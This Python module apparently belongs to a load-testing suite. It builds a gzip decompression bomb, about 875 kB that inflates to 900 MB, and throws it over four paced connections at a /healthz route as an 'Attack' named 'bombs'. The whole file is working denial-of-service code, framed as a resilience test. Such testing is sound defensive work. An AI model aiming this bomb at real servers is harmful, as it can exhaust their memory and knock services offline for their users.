"""Compressed bodies that inflate to a thousand times their size, on a route that reads none."""

import asyncio
import contextlib
import zlib
from functools import partial
from struct import pack
from typing import Final

from loadtests.strangers.attack import Attack, Target
from loadtests.strangers.wire import against, at_pace, dial, request

_PIECE: Final = bytes(10_000_000)
_PIECES: Final = 90
_CONNECTIONS: Final = 4
_BYTES_PER_S: Final = 1_000_000
_PAUSE_S: Final = 0.25
"""Before the next one, after one that was cut at once: it is bytes that are to cost, not connections."""


def bomb() -> bytes:
    """A gzip of zeros (RFC 1952), a thousand times smaller. A full flush makes each piece like the one before."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = deflate.compress(_PIECE) + deflate.flush(zlib.Z_FULL_FLUSH)
    crc = 0
    for _ in range(_PIECES):
        crc = zlib.crc32(_PIECE, crc)
    end = pack("<LL", crc, _PIECES * len(_PIECE))
    return bytes([31, 139, 8, 0, 0, 0, 0, 0, 2, 255]) + piece * _PIECES + deflate.flush() + end


async def _bombs(target: Target) -> None:
    body = bomb()
    target.begin()
    await asyncio.gather(*(_throw(target, body) for _ in range(_CONNECTIONS)))


async def _throw(target: Target, body: bytes) -> None:
    """One connection after the other, each with one body, at a quarter of the rate."""
    while target.left_s > 0:
        with contextlib.suppress(OSError):  # no connection: nothing was struck
            async with dial(target) as (reader, writer):
                headers = ("Content-Encoding: gzip", f"Content-Length: {len(body)}")
                writer.write(request(target, "/healthz", *headers))
                number = target.strike()
                await against(target, number, reader, partial(at_pace, writer, body, _BYTES_PER_S / _CONNECTIONS))
        await asyncio.sleep(_PAUSE_S)


BOMBS = Attack("bombs", "875 kB that inflate to 900 MB on GET /healthz, four connections, 1 MB/s together", _bombs)
